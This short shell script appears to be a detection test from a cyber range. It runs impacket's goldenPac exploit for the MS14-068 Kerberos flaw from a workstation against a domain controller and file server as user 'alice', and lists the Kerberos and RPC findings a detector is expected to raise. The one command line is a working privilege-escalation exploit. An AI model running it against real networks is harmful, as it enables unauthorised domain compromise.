# SPDX-License-Identifier: Apache-2.0
# what: the test for MS14-068: a ticket without PAC asked for
# technique: T1068
# from: ws1
# to: dc1
# account: alice
# outcome: attempt
# must: finding krb,rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket goldenPac -dc-ip $dc1 -target-ip $fs1 "$DOMAIN_DNS/alice:$USER_PASSWORD@fs1.$DOMAIN_DNS" whoami
true
